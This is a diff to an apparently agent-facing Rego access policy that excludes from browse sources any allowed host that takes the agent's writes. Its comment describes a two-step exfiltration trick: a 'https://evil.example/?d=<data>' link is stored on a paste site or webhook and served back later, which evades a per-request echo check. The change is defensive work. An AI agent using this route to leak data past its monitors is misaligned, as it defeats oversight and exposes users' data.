@@ -774,10 +774,24 @@ browse_source(h) if {
 	host_matches(p, h)
 }
 
+# An allowed host's pages, unless an entry lets the agent write there: a host that takes the agent's
+# POSTs (a paste site, a webhook that shows what it received, a tracker) serves back what the agent
+# stored there, `https://evil.example/?d=<data>` written in one request and served as a link by
+# the next, which the echo check (one request at a time) cannot see (twelfth pass). `browse.sources`
+# still names such a host when wanted.
 browse_source(h) if {
 	object.get(browse_conf, "from_allowed_hosts", true) == true
 	some e in extra_host_entries
 	host_matches(entry_host(e), h)
+	not agent_writes_to(h)
+}
+
+agent_writes_to(h) if {
+	some e in extra_host_entries
+	is_object(e)
+	host_matches(entry_host(e), h)
+	some m in object.get(e, "methods", [])
+	not upper(m) in read_methods
 }
 
 browse_allowed if {
